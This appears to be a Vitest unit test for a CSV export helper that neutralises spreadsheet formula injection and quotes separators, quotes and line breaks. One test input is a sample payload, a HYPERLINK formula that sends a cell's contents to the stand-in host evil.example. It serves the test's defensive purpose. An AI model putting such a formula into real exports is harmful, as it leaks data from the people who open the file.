import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from '../../../functions/commons/csv.ts';

describe('csv cells', () => {
  it('neutralises a leading = + - @ tab or CR with a quote, as OWASP recommends', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?d="&A3,"Klik hier")')).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A3,""Klik hier"")"`);
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
  });

  it('leaves ordinary text alone and quotes separators, quotes and line breaks', () => {
    expect(csvCell('Zien & Horen')).toBe('Zien & Horen');
    expect(csvCell('Kliniek 1-2')).toBe('Kliniek 1-2');
    expect(csvCell('A, "B"')).toBe('"A, ""B"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvRow(['11111111', '@SUM(A1)'])).toBe(`11111111,"'@SUM(A1)"`);
  });
});
